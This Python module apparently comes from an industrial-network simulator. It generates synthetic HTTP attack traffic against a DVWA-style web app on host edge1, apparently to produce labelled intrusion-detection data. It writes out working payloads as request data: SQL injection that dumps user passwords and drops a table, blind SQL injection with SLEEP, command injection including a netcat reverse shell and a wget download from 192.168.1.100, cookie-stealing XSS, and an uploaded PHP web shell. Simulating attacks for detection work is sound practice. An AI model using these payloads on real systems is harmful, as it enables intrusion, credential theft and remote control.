"""Attacks on the web application of edge1: the 5 types of DataSense, as sqlmap and DVWA's pages have them.

Rates go from one request in half a minute to those of the sessions in DataSense (attacks.csv: 64-400 packets
per second, about ten a request).
"""

from __future__ import annotations

from collections.abc import Sequence
from urllib.parse import quote

from cellwatch.plc_sim.attacks.attack import Attack
from cellwatch.plc_sim.attacks.conversation import CLIENT, SERVER, Conversation, Turn, Visits
from cellwatch.plc_sim.attacks.victims import HTTP
from cellwatch.plc_sim.wire import http

_SQLMAP, _BROWSER = (
    b"sqlmap/1.7.2#stable (https://sqlmap.org)",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101",
)
_COOKIE = b"Cookie: security=low; PHPSESSID=0b6h2q8f4r1v7k3n5s9t2m6d1c\r\n"


def _head(method: bytes, path: bytes, agent: bytes, more: bytes = b"") -> bytes:
    return b"%b %b HTTP/1.1\r\nHost: 192.168.1.195\r\nUser-Agent: %b\r\nAccept: */*\r\n%b%b\r\n" % (
        method, path, agent, _COOKIE, more,
    )  # fmt: skip


def _page(body: bytes, status: str = "200 OK", size: int = 900) -> bytes:
    html = b"<!DOCTYPE html><html><head><title>Line monitor</title></head><body>" + body
    html += b"<!--" + b"-" * max(0, size - len(html)) + b"--></body></html>"
    return http.response(html, "text/html", status)


def _get(
    path: str, parameter: str, value: str, agent: bytes, answer: bytes, think_ms: float = 6.0
) -> Conversation:
    request = _head(b"GET", f"{path}?{parameter}={quote(value)}&Submit=Submit".encode(), agent)
    return Conversation([Turn(CLIENT, request), Turn(SERVER, answer, think_ms)])


def _form(path: str, field: str, value: str, answer: bytes, think_ms: float = 6.0) -> Conversation:
    body = f"{field}={quote(value)}&Submit=Submit".encode()
    more = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n" % len(body)
    return Conversation(
        [Turn(CLIENT, _head(b"POST", path.encode(), _BROWSER, more) + body), Turn(SERVER, answer, think_ms)]
    )


_ROWS = b"".join(
    b"<pre>ID: %d<br>First name: operator%d<br>Surname: %b</pre>"
    % (i, i, b"5f4dcc3b5aa765d61d8327deb882cf99")
    for i in range(1, 6)
)
_SQL_ERROR = _page(
    b"You have an error in your SQL syntax; check the manual that corresponds to your MariaDB version"
)
_SQL = tuple(
    _get("/vulnerabilities/sqli/", "id", value, _SQLMAP, answer)
    for value, answer in (
        ("1'", _SQL_ERROR),
        ("1' OR '1'='1", _page(_ROWS)),
        ("1' OR 1=1#", _page(_ROWS)),
        ("1' ORDER BY 3#", _SQL_ERROR),
        ("1' UNION SELECT NULL,NULL#", _page(b"<pre>ID: 1</pre>")),
        ("1' UNION SELECT user,password FROM users#", _page(_ROWS, size=1800)),
        ("1' UNION SELECT table_name,NULL FROM information_schema.tables#", _page(_ROWS, size=9000)),
        ("1'; DROP TABLE audit;-- -", _SQL_ERROR),
    )
)
_GUESS = "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),{},1))>{}#"
# Asked one bit at a time: true and false pages differ; SLEEP(5) takes five seconds where the guess is right.
_BLIND = tuple(
    _get("/vulnerabilities/sqli_blind/", "id", value, _SQLMAP, answer, think_ms)
    for value, answer, think_ms in (
        *(
            (
                _GUESS.format(i, guess),
                _page(b"User ID exists") if guess < 90 else _page(b"User ID is MISSING", "404 Not Found"),
                6.0,
            )
            for i in (1, 2, 3)
            for guess in (64, 96, 112)
        ),
        ("1' AND SLEEP(5)#", _page(b"User ID is MISSING", "404 Not Found"), 5000.0),
        ("1' AND IF(LENGTH(database())>4,SLEEP(2),0)#", _page(b"User ID exists"), 2000.0),
    )
)
_COMMANDS = tuple(
    _form("/vulnerabilities/exec/", "ip", value, _page(b"<pre>" + answer + b"</pre>"), think_ms)
    for value, answer, think_ms in (
        ("127.0.0.1; cat /etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n" * 20, 30.0),
        ("127.0.0.1 && id", b"uid=33(www-data) gid=33(www-data)", 30.0),
        ("127.0.0.1 | uname -a", b"Linux edge1 5.15.84-v8+ aarch64 GNU/Linux", 30.0),
        ("127.0.0.1; ls -la /home", b"drwxr-xr-x 5 pi pi 4096 Jan 12 09:31 pi\n" * 8, 30.0),
        ("127.0.0.1; nc -e /bin/sh 192.168.1.100 4444", b"", 900.0),
        ("127.0.0.1; wget http://192.168.1.100/x.sh -O /tmp/x", b"saved", 400.0),
    )
)
_XSS = tuple(
    _get("/vulnerabilities/xss_r/", "name", value, _BROWSER, _page(b"Hello " + value.encode()))
    for value in (
        "<script>alert(1)</script>",
        "<script>document.location='http://192.168.1.100/c?'+document.cookie</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert(1)>",
        '"><script src=//192.168.1.100/h.js></script>',
        "<body onload=fetch('//192.168.1.100/k')>",
        "<iframe src=javascript:alert(1)>",
    )
)  # fmt: skip


def _upload(name: bytes, code: bytes) -> Conversation:
    """Upload a web shell and call it, on one connection."""
    line = b"------WebKitFormBoundaryq8YdYc5uQzC1rT2L"
    body = line + b'\r\nContent-Disposition: form-data; name="uploaded"; filename="%b"\r\n' % name
    body += b"Content-Type: application/x-php\r\n\r\n" + code + b"\r\n" + line + b"--\r\n"
    more = b"Content-Type: multipart/form-data; boundary=%b\r\nContent-Length: %d\r\n" % (line[2:], len(body))
    stored = _page(b"../../hackable/uploads/" + name + b" succesfully uploaded!")
    call = _head(b"GET", b"/hackable/uploads/" + name + b"?cmd=whoami", _BROWSER)
    return Conversation(
        [
            Turn(CLIENT, _head(b"POST", b"/vulnerabilities/upload/", _BROWSER, more) + body),
            Turn(SERVER, stored, 15.0),
            Turn(CLIENT, call, 30.0),
            Turn(SERVER, _page(b"<pre>www-data</pre>", size=200), 20.0),
        ]
    )


_SHELL = b"<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>\n"
_UPLOADS = tuple(
    _upload(name, _SHELL * copies)
    for name, copies in ((b"shell.php", 1), (b"img.php.jpg", 20), (b"c99.php", 120))
)


_EXPLOIT = "T0866"  # Exploitation of Remote Services


def _attack(
    kind: str, attack_id: str | None, choices: Sequence[Conversation], most: float, about: str
) -> Attack:
    return Attack(
        "web",
        kind,
        attack_id,
        about,
        {"factory": ("edge1",)},
        lambda scene: Visits(scene, choices, HTTP, (0.03, most)),
    )


ATTACKS = (
    _attack("backdoor-upload", _EXPLOIT, _UPLOADS, 5, "a web shell is uploaded and called"),
    _attack("command-injection", _EXPLOIT, _COMMANDS, 6, "shell commands in a form field"),
    _attack("sql-injection", _EXPLOIT, _SQL, 8, "SQL in a parameter; tables come back"),
    _attack("sql-injection-blind", _EXPLOIT, _BLIND, 40, "SQL that is answered by true, false or a pause"),
    # A script that runs in a visitor's browser: no technique of ATT&CK for ICS fits.
    _attack("xss", None, _XSS, 36, "scripts in a parameter that the page shows"),
)
